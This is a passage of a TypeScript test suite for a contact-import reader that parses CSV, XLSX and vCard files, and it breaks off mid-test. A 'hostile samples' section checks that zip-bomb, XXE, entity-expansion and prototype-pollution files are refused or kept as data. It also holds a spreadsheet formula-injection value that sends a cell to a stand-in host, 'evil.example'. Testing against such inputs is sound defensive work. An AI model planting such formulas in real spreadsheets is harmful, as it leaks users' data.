// Contact files as they come: real ones of many products, and those that were made to break whoever reads them. Each is
// read as the server does, in a process of its own.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmod, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { SaxesParser } from 'saxes';
import { afterAll, describe, expect, test, vi } from 'vitest';
import { CsvRows } from '../src/imports/readers/csv-rows.ts';
import { undefuse } from '../src/exports/formulas.ts';
import { vCard, type VCardVersion } from '../src/exports/vcard.ts';
import { readerLimits, type ReaderLimits, sheetLimits } from '../src/imports/readers/limits.ts';
import { readInChild, rowsOf, startReader } from '../src/imports/readers/reader.ts';
import { readXml } from '../src/imports/readers/xml.ts';
import type { ReadOptions, SheetFacts, SheetRow } from '../src/imports/sheet.ts';
import { patchZip, row, workbook, zipOf } from './workbooks.ts';

const folder = await mkdtemp(join(tmpdir(), 'reinstate-readers-'));
afterAll(() => rm(folder, { recursive: true, force: true }));

const samples = fileURLToPath(new URL('fixtures/samples/', import.meta.url));

interface WholeSheet {
  facts: SheetFacts;
  rows: SheetRow[];
}

/** A whole file, and nothing of its process left behind. */
async function read(path: string, options: ReadOptions = {}, limits: ReaderLimits = readerLimits): Promise<WholeSheet> {
  const reading = await readInChild({ path, options, mode: 'rows' }, limits);
  const rows: SheetRow[] = [];
  let bytesRead = 0;
  for await (const batch of reading.batches) {
    const some = rowsOf(batch);
    expect(some).toHaveLength(batch.rows);
    expect(batch.bytesRead).toBeGreaterThanOrEqual(bytesRead);
    bytesRead = batch.bytesRead;
    rows.push(...some);
  }
  expect(bytesRead).toBeLessThanOrEqual(reading.totalBytes);
  return { facts: reading.facts, rows };
}

let files = 0;

/** The same of bytes, in a file whose name says nothing. */
async function readBytes(content: string | Buffer, options?: ReadOptions, limits?: ReaderLimits): Promise<WholeSheet> {
  const path = join(folder, `file-${++files}`);
  await writeFile(path, content);
  return read(path, options, limits);
}

const sample = (name: string) => read(join(samples, name));
const cells = ({ rows }: WholeSheet) => rows.map((row) => row.cells);
const problems = ({ rows }: WholeSheet) => rows.flatMap(({ rowNumber, problem }) => (problem ? [[rowNumber, problem.code, problem.column]] : []));
const people = 'First Name,Last Name,Email\n';

/** The refusal, and how long it took from when the process was started. */
async function refused(reading: () => Promise<unknown>): Promise<{ code: string; message: string }> {
  const begun = performance.now();
  const error = await reading().then(
    () => expect.fail('It was read.'),
    (error: unknown) => error as { code: string; message: string },
  );
  expect(error.message).toContain('Nothing was imported.');
  expect(performance.now() - begun).toBeLessThan(2_000 + startMs);
  return { code: error.code, message: error.message };
}

/** What the start of a process takes at most, on a busy machine. */
const startMs = 3_000;

describe('files of real products', () => {
  test.for<[name: string, rows: number, facts: Partial<SheetFacts>, first: string[]]>([
    [
      'excel-german.csv',
      250,
      { format: 'CSV', encoding: 'WINDOWS_1252', separator: ';', headerRow: 1 },
      ['00000', 'Sky', 'Weniger', 'sky.weniger0@example.org'],
    ],
    ['excel-unicode.txt', 60, { format: 'CSV', encoding: 'UTF_16LE', separator: '\t' }, ['Lefebvre', 'Adrien', 'adrien.lefebvre0@example.org']],
    ['google-legacy.csv', 80, { format: 'CSV', encoding: 'UTF_8', separator: ',' }, ['Jettie Kuhic', 'Jettie', '', 'Kuhic']],
    ['google.csv', 300, { format: 'CSV', encoding: 'UTF_8', separator: ',' }, ['Jettie', '', 'Kuhic']],
    ['hubspot.csv', 200, { format: 'CSV', encoding: 'UTF_8', separator: ',' }, ['90000000000', 'Robert', 'Kling-Monahan']],
    ['mailchimp.csv', 120, { format: 'CSV', encoding: 'UTF_8', separator: ',' }, ['robert.klingmonahan0@example.org', 'Robert']],
    ['outlook.csv', 200, { format: 'CSV', encoding: 'UTF_8', separator: ',' }, ['', 'Astrée', '', 'Rousseau']],
    ['salesforce.csv', 200, { format: 'CSV', encoding: 'WINDOWS_1252', separator: ',' }, ['Ms.', 'Robert', 'Kling-Monahan']],
    ['riverside-club.csv', 5_000, { format: 'CSV', encoding: 'UTF_8', separator: ',' }, ['000001', 'Aaliyah', 'Bosco']],
    [
      'members.xlsx',
      400,
      { format: 'XLSX', sheet: 'Members', sheets: ['Read me', 'Members'], headerRow: 1, encoding: null },
      ['000000', 'Krystal', 'Fadel', '', '(309) 607-1226 x42419', '1946-11-29', 'Adult', '2024-03-01', '2026-03-01', '-49.5', 'rower, cox'],
    ],
    ['phone.vcf', 40, { format: 'VCARD', encoding: 'UTF_8', sheets: [] }, ['Chelsie', '', "O'Reilly", '', '', '', 'Johnson Group']],
  ])('%s', async ([name, count, facts, first]) => {
    const sheet = await sample(name);
    expect(sheet.facts).toMatchObject(facts);
    expect(sheet.rows).toHaveLength(count);
    expect(problems(sheet)).toEqual([]);
    expect(sheet.rows.map(({ rowNumber }) => rowNumber)).toEqual(Array.from({ length: count }, (_, index) => index + sheet.facts.headerRow + 1));
    expect(sheet.rows[0]!.cells.slice(0, first.length)).toEqual(first);
  });

  test('none is left out', async () => {
    expect((await readdir(samples)).filter((name) => name.includes('.'))).toHaveLength(11);
  });

  test('accents come out as they were typed, from Windows-1252 too', async () => {
    const { facts, rows } = await sample('excel-german.csv');
    expect(facts.header).toContain('Straße');
    expect(rows.map(({ cells }) => cells[7])).toContain('Süd Jonasburg');
  });
});

describe('hostile samples', () => {
  test.for([
    ['bomb.xlsx', 'WORKBOOK_TOO_LARGE'],
    ['broken-quotes.csv', 'BROKEN_QUOTES'],
    ['empty.csv', 'EMPTY_FILE'],
    ['lol.xlsx', 'XML_ENTITIES'],
    ['xxe.xlsx', 'XML_ENTITIES'],
  ] as const)('%s is refused: %s', async ([name, code]) => {
    expect(await refused(() => sample(`hostile/${name}`))).toMatchObject({ code });
  });

  test('broken quotes that swallow a row are refused at that row', async () => {
    await expect(sample('hostile/broken-quotes.csv')).rejects.toThrow('In row 2 a cell opens a quotation mark');
  });

  test('formulas are text', async () => {
    expect(cells(await sample('hostile/formula.csv'))).toEqual([
      ['=HYPERLINK("http://evil.example/?x="&A1)', 'Cell', 'a@example.org', '+1+1'],
      ['@SUM(A1)', 'Tab', 'b@example.org', '-2+3'],
    ]);
  });

  test('a header alone is a table without rows', async () => {
    expect(await sample('hostile/header-only.csv')).toMatchObject({ facts: { header: ['First Name', 'Last Name', 'Email'] }, rows: [] });
  });

  test('a line of 1.2 million characters is one row that is too long', async () => {
    const sheet = await sample('hostile/long-line.csv');
    expect(problems(sheet)).toEqual([[2, 'CELL_TOO_LONG', 'First Name']]);
    expect(sheet.rows[0]!.cells[0]).toHaveLength(sheetLimits.cellLength);
  });

  test('NUL and control characters are problems of their row', async () => {
    const sheet = await sample('hostile/nul-and-control.csv');
    expect(problems(sheet)).toEqual([[2, 'NUL_CHARACTER', 'First Name']]);
    expect(sheet.rows).toHaveLength(3);
  });

  test('text with the ending of a workbook is text', async () => {
    expect(await sample('hostile/not-a-workbook.xlsx')).toMatchObject({ facts: { format: 'CSV', header: ['this is text with the wrong ending'] }, rows: [] });
  });

  test('names of what objects are made of are data', async () => {
    expect(await sample('hostile/prototype.csv')).toMatchObject({
      facts: { header: ['__proto__', 'constructor', 'Email'] },
      rows: [{ rowNumber: 2, cells: ['polluted', 'polluted', 'p@example.org'] }],
    });
    expect(await sample('hostile/proto.xlsx')).toMatchObject({ facts: { header: ['__proto__'] }, rows: [{ rowNumber: 2, cells: ['polluted'] }] });
    expect(Object.keys({})).toEqual([]);
  });

  test('a cell in the farthest corner is a problem of its row, and costs nothing', async () => {
    expect(problems(await sample('hostile/sparse.xlsx'))).toEqual([[1_048_576, 'TOO_MANY_CELLS', undefined]]);
  });

  test('none is left out', async () => {
    expect(await readdir(join(samples, 'hostile'))).toHaveLength(13);
  });
});

describe('kinds of files', () => {
  test.for([
    ['an old workbook, or one with a password', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'UNSUPPORTED_FILE'],
    ['a PDF document', '%PDF-1.7\n', 'UNSUPPORTED_FILE'],
    ['a picture', Buffer.from('89504e470d0a1a0a', 'hex'), 'UNSUPPORTED_FILE'],
    ['a web page', '<!DOCTYPE html><table><tr><td>Email</td></tr></table>', 'UNSUPPORTED_FILE'],
    ['an XML document', '<?xml version="1.0"?><Workbook/>', 'UNSUPPORTED_FILE'],
    ['a compressed file', Buffer.from('1f8b0800', 'hex'), 'UNSUPPORTED_FILE'],
    ['a program', Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7) % 256)), 'UNSUPPORTED_FILE'],
    ['an empty file', '', 'EMPTY_FILE'],
    ['blank lines', '\n\r\n  \n,,\n', 'EMPTY_FILE'],
  ] as const)('%s is refused', async ([, content, code]) => {
    expect(await refused(() => readBytes(content as Buffer))).toMatchObject({ code });
  });

  test('another archive is refused', async () => {
    expect(await refused(async () => readBytes(await zipOf([['word/document.xml', '<document/>']])))).toMatchObject({ code: 'UNSUPPORTED_FILE' });
    expect(await refused(async () => readBytes(await zipOf([])))).toMatchObject({ code: 'UNSUPPORTED_FILE' });
  });
});

describe('encodings of text', () => {
  const text = 'Name,Email\nMüller – Łukasz 🎉,a@example.org\n';
  const utf16le = Buffer.from(text, 'utf16le');
  const name = async (content: Buffer, options?: ReadOptions) => {
    const sheet = await readBytes(content, options);
    return [sheet.facts.encoding, sheet.facts.header[0], sheet.rows[0]!.cells[0]];
  };

  test.for<[kind: string, content: Buffer, encoding: string]>([
    ['UTF-8', Buffer.from(text), 'UTF_8'],
    ['UTF-8 with a byte order mark', Buffer.from(`\uFEFF${text}`), 'UTF_8'],
    ['UTF-16 with a byte order mark', Buffer.from(`\uFEFF${text}`, 'utf16le'), 'UTF_16LE'],
    ['UTF-16 without one', utf16le, 'UTF_16LE'],
    ['UTF-16, the high byte first', Buffer.from(`\uFEFF${text}`, 'utf16le').swap16(), 'UTF_16BE'],
    ['the same without a mark', Buffer.from(utf16le).swap16(), 'UTF_16BE'],
  ])('%s', async ([, content, encoding]) => {
    expect(await name(content)).toEqual([encoding, 'Name', 'Müller – Łukasz 🎉']);
  });

  test('what is not UTF-8 is Windows-1252, with the characters that Latin-1 does not have', async () => {
    expect(await name(Buffer.from('Name,Email\nM\xFCller \x96 5 \x80,a@example.org\n', 'latin1'))).toEqual(['WINDOWS_1252', 'Name', 'Müller – 5 €']);
  });

  test('the whole file decides, wherever its first accent is', async () => {
    const long = `Name,Email\n${'Ann,a@example.org\n'.repeat(40_000)}`;
    const late = await readBytes(Buffer.concat([Buffer.from(long), Buffer.from('M\xFCller,b@example.org\n', 'latin1')]));
    expect(late.facts.encoding).toBe('WINDOWS_1252');
    expect(late.rows.at(-1)!.cells[0]).toBe('Müller');
    expect((await readBytes(`${long}Müller,b@example.org\n`)).rows.at(-1)!.cells[0]).toBe('Müller');
  });

  test('bytes that are nothing in Windows-1252 are refused', async () => {
    expect(await refused(() => readBytes(Buffer.from('Name,Email\nM\x81ller\xFC,a@example.org\n', 'latin1')))).toMatchObject({ code: 'NOT_TEXT' });
  });

  test('a few stray bytes in UTF-8 are problems of their rows', async () => {
    const mixed = Buffer.concat([Buffer.from('Name,Email\nMüller,a@example.org\nŁukasz,b@example.org\n'), Buffer.from('M\xFCller,c@example.org\n', 'latin1')]);
    const sheet = await readBytes(mixed);
    expect(sheet.facts.encoding).toBe('UTF_8');
    expect(problems(sheet)).toEqual([[4, 'MIXED_ENCODING', 'Name']]);
    expect((await readBytes(mixed, { encoding: 'WINDOWS_1252' })).rows.at(-1)!.cells[0]).toBe('Müller');
  });

  test('where most is Windows-1252 and some is UTF-8, nothing is guessed', async () => {
    const mixed = Buffer.concat([Buffer.from('Name,Email\nMüller,a@example.org\n'), Buffer.from('M\xFCller,b@example.org\nJ\xF6rg,c@example.org\n', 'latin1')]);
    expect(await refused(() => readBytes(mixed))).toMatchObject({ code: 'MIXED_ENCODING' });
    const chosen = await readBytes(mixed, { encoding: 'UTF_8' });
    expect(problems(chosen).map(([number]) => number)).toEqual([3, 4]);
  });

  test('half of a character is a problem of its row', async () => {
    const content = Buffer.from('\uFEFFName,Email\nA\uD800nn,a@example.org\nBob \u{1F389},b@example.org\n', 'utf16le');
    const sheet = await readBytes(content);
    expect(problems(sheet)).toEqual([[2, 'BROKEN_CHARACTER', 'Name']]);
    expect(sheet.rows[1]!.cells[0]).toBe('Bob 🎉');
  });
});

describe('separated text', () => {
  test.for([',', ';', '\t', '|'])('the separator %j is found', async (separator) => {
    const lines = [
      ['Name', 'Address', 'Email', 'Fee'],
      ['Ann', 'Main Street 1, Springfield', 'a@example.org', '1.234,50'],
      ['Bob', 'x; y', 'b@example.org', '2,5'],
    ];
    const quoted = lines.map((line) => line.map((cell) => (cell.includes(separator) ? `"${cell}"` : cell)).join(separator)).join('\r\n');
    const sheet = await readBytes(quoted);
    expect(sheet.facts).toMatchObject({ separator, quote: '"', header: lines[0] });
    expect(cells(sheet)).toEqual(lines.slice(1));
  });

  test('what stands between the tags of a cell is no separator, however many there are', async () => {
    const tagged = (tags: number) =>
      `Name,City,Tags\n${Array.from({ length: 20 }, (_, row) => `Ann ${row},Ghent,${Array.from({ length: tags }, (__, tag) => `t${tag}`).join(';')}\n`).join('')}`;
    for (const tags of [2, 4, 40]) expect((await readBytes(tagged(tags))).facts).toMatchObject({ separator: ',', header: ['Name', 'City', 'Tags'] });
  });

  test('a line of Excel that names the separator is no row', async () => {
    const sheet = await readBytes('sep=;\r\nName;Email\r\n"Bell, Ann";a@example.org\r\n');
    expect(sheet.facts).toMatchObject({ separator: ';', headerRow: 1 });
    expect(sheet.rows).toEqual([{ rowNumber: 2, cells: ['Bell, Ann', 'a@example.org'] }]);
  });

  test('choices win over what is detected', async () => {
    const sheet = await readBytes("Name;Email\n'Bell; Ann';a@example.org\n", { separator: ';', quote: "'" });
    expect(sheet.facts).toMatchObject({ separator: ';', quote: "'" });
    expect(cells(sheet)).toEqual([['Bell; Ann', 'a@example.org']]);
    expect(cells(await readBytes(`${people}"Ann,Bell,a@example.org\n`, { quote: '' }))).toEqual([['"Ann', 'Bell', 'a@example.org']]);
    expect(await refused(() => readBytes(people, { separator: ',,' }))).toMatchObject({ code: 'BAD_READ_OPTIONS' });
  });

  test('single quotes around every name are quotes', async () => {
    const sheet = await readBytes("'Name','Email'\n'O''Neil, Ann','a@example.org'\n");
    expect(sheet.facts).toMatchObject({ quote: "'", header: ['Name', 'Email'] });
    expect(cells(sheet)).toEqual([["O'Neil, Ann", 'a@example.org']]);
  });

  test('a cell holds separators, line ends, tabs and quotes', async () => {
    const sheet = await readBytes(`${people}"Ann\nMarie","Bell, ""B""" ,a@example.org\r\n\r\nBob "the" Row,Row\t,b@example.org`);
    expect(sheet.rows).toEqual([
      { rowNumber: 2, cells: ['Ann\nMarie', 'Bell, "B"', 'a@example.org'] },
      { rowNumber: 4, cells: ['Bob "the" Row', 'Row\t', 'b@example.org'] },
    ]);
  });

  test.for(['\n', '\r\n', '\r'])('lines end with %j', async (end) => {
    expect(cells(await readBytes(['Name,Email', 'Ann,a@example.org', '"Bob",b@example.org', ''].join(end)))).toEqual([
      ['Ann', 'a@example.org'],
      ['Bob', 'b@example.org'],
    ]);
  });

  test('titles above the table are passed over, and a row can be chosen', async () => {
    const titled = 'Member list\n\n"Exported, for the board",\nName,Email,Phone,City,Country\nAnn,a@example.org,,,\n';
    const sheet = await readBytes(titled);
    expect(sheet.facts).toMatchObject({ headerRow: 4, header: ['Name', 'Email', 'Phone', 'City', 'Country'] });
    expect(sheet.rows).toEqual([{ rowNumber: 5, cells: ['Ann', 'a@example.org', '', '', ''] }]);
    expect((await readBytes(titled, { headerRow: 5 })).facts.header).toEqual(['Ann', 'a@example.org']);
    expect(await refused(() => readBytes(titled, { headerRow: 2 }))).toMatchObject({ code: 'NO_HEADER' });
  });

  test.for(['Ann,Bell,a@example.org\nBob,Row,b@example.org\n', 'Ann,+1 415 555 0100\nBob,+1 415 555 0101\n', 'Ann,1980-01-31\n', '1,2,3\n4,5,6\n'])(
    'a table without names of columns is refused: %j',
    async (content) => {
      expect(await refused(() => readBytes(content))).toMatchObject({ code: 'NO_HEADER' });
    },
  );

  test('a row with broken quotes is a problem where it certainly is one line', async () => {
    const sheet = await readBytes(`${people}"Ann "the" Bell",Bell,a@example.org\n"Bob",Row,b@example.org\n"Cid,Low,c@example.org`);
    expect(problems(sheet)).toEqual([
      [2, 'BROKEN_QUOTES', undefined],
      [4, 'BROKEN_QUOTES', undefined],
    ]);
    expect(sheet.rows[1]).toEqual({ rowNumber: 3, cells: ['Bob', 'Row', 'b@example.org'] });
  });

  test.for([
    ['a mark that is never closed', `${people}Ann,Bell,a@example.org\n"Bob,Row,b@example.org\nCid,Low,c@example.org\n`, 'In row 3'],
    ['marks that meet over a row', `${people}"Ann,Bell,a@example.org\nBob,Row,b@example.org\nCid,", Low",c@example.org\n`, 'In row 2'],
    [
      'the same far down',
      `${people}${'Ann,Bell,a@example.org\n'.repeat(50)}"Ann,Bell,a@example.org\nBob,Row,b@example.org\nCid,", Low",c@example.org\n`,
      'In row 52',
    ],
    ['marks of two plain cells', `${people}Ann,"12 inch,a@example.org\nBob,Row,b@example.org\nCid,12",c@example.org\n`, 'In row 2'],
    ['a line that leaves a cell open', `${people}"Ann" x,"Bell\nLow",a@example.org\n`, 'In row 2'],
  ] as const)('where rows may have been swallowed the file is refused: %s', async ([, content, message]) => {
    const refusal = await refused(() => readBytes(content));
    expect(refusal).toMatchObject({ code: 'BROKEN_QUOTES' });
    expect(refusal.message).toContain(message);
  });

  test('a text of several lines is no row, however many separators they have', async () => {
    const notes = ['Dear Ann,\nthanks, and come again, soon', 'Hello\nthanks, and come again, soon\nAnn', 'a, b, c\nd, e, f\ng, h, i', '\na,b,c\n'];
    const sheet = await readBytes(`First Name,Email,Notes\n${notes.map((note) => `Ann,a@example.org,"${note}"\n`).join('')}`);
    expect(sheet.rows.map(({ cells }) => cells[2])).toEqual(notes);
  });

  test('a row after one beyond all bounds stays, wherever the pieces of the file end', async () => {
    const limits = { rowLength: 10, cellLength: 10 };
    for (const end of ['\r', '\n', '\r\n']) {
      const text = `${'x'.repeat(20)}${end}Ann,Bell${end}`;
      for (let cut = 1; cut < text.length; cut++) {
        const rows = new CsvRows(',', '"', limits);
        const found: (string | undefined)[] = [];
        const take = () => {
          for (let row = rows.next(); row; row = rows.next()) found.push(row.problem?.code ?? row.cells.join());
        };
        for (const piece of [text.slice(0, cut), text.slice(cut)]) {
          rows.add(piece);
          take();
        }
        rows.end();
        take();
        expect([end, cut, found.length, found[1]]).toEqual([end, cut, 2, 'Ann,Bell']);
      }
    }
  });

  test('of the rows before the one that was chosen for the header none is kept, and no row is before the first', async () => {
    const text = `${'x\n'.repeat(50_000)}Name,Email\nAnn,a@example.org\n`;
    expect(await readBytes(text, { headerRow: 50_001 })).toMatchObject({ facts: { header: ['Name', 'Email'] }, rows: [{ cells: ['Ann', 'a@example.org'] }] });
    expect(await refused(() => readBytes(text, { headerRow: 60_000 }))).toMatchObject({ code: 'NO_HEADER' });
    const book = await workbook({ sheets: { S: row(1, 'Name') + row(2, 'Ann') } });
    for (const headerRow of [-5, 1.5]) expect(await refused(() => readBytes(book, { headerRow }))).toMatchObject({ code: 'BAD_READ_OPTIONS' });
  });

  test('a mark that swallows megabytes is refused', async () => {
    const long = `${people}"Ann,Bell,a@example.org\n${'Bob,Row,b@example.org\n'.repeat(400_000)}`;
    expect(await refused(() => readBytes(long))).toMatchObject({ code: 'ROW_TOO_LONG' });
  });

  test('cells of a megabyte, and lines beyond all bounds, are problems of their rows', async () => {
    const long = 'x'.repeat(1_048_576);
    const sheet = await readBytes(
      `${people}Ann,"${long}",a@example.org\nBob,Row,b@example.org\n${long.repeat(5)},Low,c@example.org\r\nDee,Day,d@example.org\n`,
    );
    expect(problems(sheet)).toEqual([
      [2, 'CELL_TOO_LONG', 'Last Name'],
      [4, 'ROW_TOO_LONG', undefined],
    ]);
    expect(sheet.rows.map(({ cells }) => cells[0]!.slice(0, 3))).toEqual(['Ann', 'Bob', 'xxx', 'Dee']);
  });

  test('a million columns are refused, and a row with too many cells is a problem', async () => {
    expect(await refused(() => readBytes(`${'column,'.repeat(1_000_000)}\nx\n`))).toMatchObject({ code: 'TOO_MANY_COLUMNS' });
    const sheet = await readBytes(`${people}Ann,Bell,a@example.org,,,\nBob,Row,b@example.org,more\n${'x,'.repeat(1_000_000)}\n`);
    expect(problems(sheet)).toEqual([
      [3, 'TOO_MANY_CELLS', undefined],
      [4, 'TOO_MANY_CELLS', undefined],
    ]);
    expect(sheet.rows[0]!.cells).toEqual(['Ann', 'Bell', 'a@example.org']);
  });

  test('more rows than may be are refused', async () => {
    const limits = { ...readerLimits, sheet: { ...sheetLimits, rows: 3 } };
    expect((await readBytes(`${people}${'Ann,Bell,a@example.org\n'.repeat(3)}`, {}, limits)).rows).toHaveLength(3);
    expect(await refused(() => readBytes(`${people}${'Ann,Bell,a@example.org\n'.repeat(4)}`, {}, limits))).toMatchObject({ code: 'TOO_MANY_ROWS' });
  });

  test('control characters, and what XML and CSV allow of them', async () => {
    const sheet = await readBytes(`${people}A\u0085nn,Bell,a@example.org\nBo\u001Bb,Row,b@example.org\n"Ci\td\n",Low,c@example.org\n`);
    expect(problems(sheet)).toEqual([
      [2, 'CONTROL_CHARACTER', 'First Name'],
      [3, 'CONTROL_CHARACTER', 'First Name'],
    ]);
  });

  test('whatever is written comes back, however it is cut into pieces', () => {
    const random = seeded(1);
    const pieces = ['a', 'Ü', '"', ',', '\n', '\r\n', ' ', 'word', '', "'", ';', '🎉'];
    for (let round = 0; round < 400; round++) {
      const table = Array.from({ length: 1 + random(5) }, () =>
        Array.from({ length: 3 }, () => Array.from({ length: random(5) }, () => pieces[random(pieces.length)]!).join('')),
      );
      const end = ['\n', '\r\n', '\r'][random(3)]!;
      const text =
        table.map((line) => line.map((cell) => (/^"|[,\r\n]/.test(cell) || random(3) === 0 ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',')).join(end) +
        end;
      // But for the apostrophe of texts that were defused for spreadsheets.
      expect(cutIntoRows(text, random)).toEqual(table.map((line) => line.map(undefuse)));
      expect(parseCsv(text, { relax_quotes: true, record_delimiter: ['\r\n', '\n', '\r'] })).toEqual(table);
    }
  });
});

/** Numbers below a limit, always the same ones. */
function seeded(seed: number): (limit: number) => number {
  let state = seed;
  return (limit) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return (state >>> 8) % limit;
  };
}

function cutIntoRows(text: string, random: (limit: number) => number): string[][] {
  const rows = new CsvRows(',', '"', sheetLimits);
  const found: string[][] = [];
  let at = 0;
  while (!rows.ended) {
    for (let next = rows.next(); next; next = rows.next()) found.push(next.cells);
    if (at < text.length) rows.add(text.slice(at, (at += 1 + random(7))));
    else rows.end();
  }
  return found;
}

describe('workbooks', () => {
  const header = row(1, 'Name', 'Email', 'Value');
  /** The values of the third column, of cells as they stand in the sheet. */
  const values = async (written: string[], more: Partial<Parameters<typeof workbook>[0]> = {}) => {
    const rows = written.map((cell, index) => `<row r="${index + 2}"><c t="inlineStr"><is><t>Ann</t></is></c><c r="C${index + 2}"${cell}</c></row>`).join('');
    const sheet = await readBytes(await workbook({ sheets: { S: header + rows }, ...more }));
    return sheet.rows.map(({ cells }) => cells[2] ?? '');
  };

  test('texts: shared, rich, inline, with phonetic hints, escapes and entities', async () => {
    const strings =
      '<si><t>plain</t></si><si><r><rPr><b/></rPr><t xml:space="preserve">rich </t></r><r><t>text</t></r></si>' +
      '<si><t>漢字</t><rPh sb="0" eb="2"><t>かんじ</t></rPh></si><si><t>a_x000D_\nb_x005F_c &amp; &#x44;&#69; &lt;f&gt;</t></si><si/><si><t><![CDATA[<raw> & ]]></t></si>';
    const shared = [0, 1, 2, 3, 4, 5].map((index) => ` t="s"><v>${index}</v>`);
    const own = [' t="inlineStr"><is><r><t>in</t></r><r><t>line</t></r><rPh sb="0" eb="1"><t>no</t></rPh></is>', ' t="str"><f>A1&amp;"x"</f><v>formula</v>'];
    expect(await values([...shared, ...own], { strings })).toEqual(['plain', 'rich text', '漢字', 'a\nb_c & DE <f>', '', '<raw> & ', 'inline', 'formula']);
  });

  test('truths, errors and formulas', async () => {
    const written = [' t="b"><v>1</v>', ' t="b"><v>0</v>', ' t="e"><v>#N/A</v>', '><f>1+1</f><v>2</v>', '><f>NOW()</f>', '/><c r="D6">'];
    expect(await values(written)).toEqual(['TRUE', 'FALSE', '', '2', '', '']);
  });

  test('numbers are plain, with a point and without an exponent', async () => {
    const written = [
      '493512345678',
      '4.93512345678E11',
      '1E21',
      '1.5E-7',
      '0.1',
      '0.30000000000000004',
      '1234.5600000000001',
      '-49.5',
      '12345678901234567890',
      '-0',
    ];
    expect(await values(written.map((value) => `><v>${value}</v>`))).toEqual([
      '493512345678',
      '493512345678',
      '1000000000000000000000',
      '0.00000015',
      '0.1',
      '0.3',
      '1234.56',
      '-49.5',
      '12345678901234567890',
      '-0',
    ]);
  });

  /** A style for each format, in their order. */
  const formatted = (formats: (number | string)[]) => {
    const codes = formats.flatMap((format, index) => (typeof format === 'string' ? [`<numFmt numFmtId="${200 + index}" formatCode="${format}"/>`] : []));
    const styles = formats.map((format, index) => `<xf numFmtId="${typeof format === 'string' ? 200 + index : format}"/>`);
    return `<numFmts>${codes.join('')}</numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs>${styles.join('')}</cellXfs>`;
  };
  const shown = (pairs: [format: number | string, value: string, shown: string][], properties = '') =>
    values(
      pairs.map(([, value], index) => ` s="${index}"><v>${value}</v>`),
      { styles: formatted(pairs.map(([format]) => format)), properties },
    );

  test('dates and times by their format, built in or not', async () => {
    const pairs: [number | string, string, string][] = [
      [14, '45306', '2024-01-15'],
      [17, '45306', '2024-01-15'],
      [22, '45306.75', '2024-01-15T18:00:00'],
      [22, '45306', '2024-01-15'],
      [14, '45306.75', '2024-01-15'],
      [20, '0.75', '18:00:00'],
      [21, '0.999999', '24:00:00'],
      [46, '1.5', '36:00:00'],
      [30, '45306', '2024-01-15'],
      [57, '45306', '2024-01-15'],
      ['dd/mm/yyyy', '45306', '2024-01-15'],
      ['[$-409]mmmm d, yyyy;@', '45306', '2024-01-15'],
      ['yyyy\\-mm\\-dd hh:mm:ss', '45306.5', '2024-01-15T12:00:00'],
      ['mmmm', '45306', '2024-01-15'],
      ['h:mm AM/PM', '0.5', '12:00:00'],
      ['[h]:mm', '1.25', '30:00:00'],
      ['0.00 &quot;days&quot;', '3.5', '3.5'],
      ['[Red]0.00', '3.5', '3.5'],
      ['General', '45306', '45306'],
      ['0.00E+00', '45306', '45306'],
      ['_-* #,##0.00\\ [$€-407]_-', '12.5', '12.5'],
      [14, '1', '1900-01-01'],
      [14, '59', '1900-02-28'],
      [14, '60', '1900-02-29'],
      [14, '61', '1900-03-01'],
      [14, '2958465', '9999-12-31'],
      [14, '2958466', '2958466'],
      [14, '-1', '-1'],
      [14, '0', '0'],
    ];
    expect(await shown(pairs)).toEqual(pairs.map(([, , text]) => text));
  });

  test('dates since 1904, and cells that are dates themselves', async () => {
    const pairs: [number | string, string, string][] = [
      [14, '0', '1904-01-01'],
      [14, '43844', '2024-01-15'],
    ];
    expect(await shown(pairs, '<workbookPr date1904="1"/>')).toEqual(pairs.map(([, , text]) => text));
    const written = ['2024-01-15', '2024-01-15T00:00:00', '2024-01-15T10:30:00.000Z'].map((value) => ` t="d"><v>${value}</v>`);
    expect(await values(written)).toEqual(['2024-01-15', '2024-01-15', '2024-01-15T10:30:00']);
  });

  test('leading zeros that a format shows, and percentages', async () => {
    const pairs: [number | string, string, string][] = [
      ['00000', '1234', '01234'],
      ['00000', '123456', '123456'],
      ['000\\-00\\-0000', '12345678', '012-34-5678'],
      ['00000&quot;-&quot;0000', '10123', '00001-0123'],
      ['00000', '1.5', '1.5'],
      ['0', '7', '7'],
      ['#,##0', '1234567', '1234567'],
      [9, '0.125', '12.5%'],
      ['0.00%', '0.07', '7%'],
      [2, '3.10', '3.1'],
    ];
    expect(await shown(pairs)).toEqual(pairs.map(([, , text]) => text));
  });

  test('rows with gaps, without references, merged cells and rows of their own number', async () => {
    const rows =
      '<row><c t="inlineStr"><is><t>Name</t></is></c><c t="inlineStr"><is><t>City</t></is></c><c t="inlineStr"><is><t>Email</t></is></c></row>' +
      '<row/><row><c t="inlineStr"><is><t>Ann</t></is></c><c/><c t="inlineStr"><is><t>a@example.org</t></is></c></row>' +
      '<row r="7"><c r="C7" t="inlineStr"><is><t>b@example.org</t></is></c></row>';
    const sheet = await readBytes(await workbook({ sheets: { S: `<sheetData>${rows}</sheetData><mergeCells><mergeCell ref="A3:B3"/></mergeCells>` } }));
    expect(sheet.rows).toEqual([
      { rowNumber: 3, cells: ['Ann', '', 'a@example.org'] },
      { rowNumber: 7, cells: ['', '', 'b@example.org'] },
    ]);
  });

  test('links of mail addresses stand in for empty cells, and for no others', async () => {
    const rows = header + row(2, 'Ann', 'Write me') + row(3, 'Bob');
    const links = '<hyperlinks><hyperlink ref="B2" r:id="m1"/><hyperlink ref="B3" r:id="m2"/><hyperlink ref="C3" r:id="w"/></hyperlinks>';
    const relation = (id: string, target: string) => `<Relationship Id="${id}" Type="x/hyperlink" Target="${target}" TargetMode="External"/>`;
    const relations = relation('m1', 'mailto:ann@example.org') + relation('m2', 'mailto:bob%2Bx@example.org?subject=Hi') + relation('w', 'https://example.org');
    const parts = { 'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships>${relations}</Relationships>` };
    const sheet = await readBytes(await workbook({ sheets: { S: `<sheetData>${rows}</sheetData>${links}` }, parts }));
    expect(cells(sheet)).toEqual([
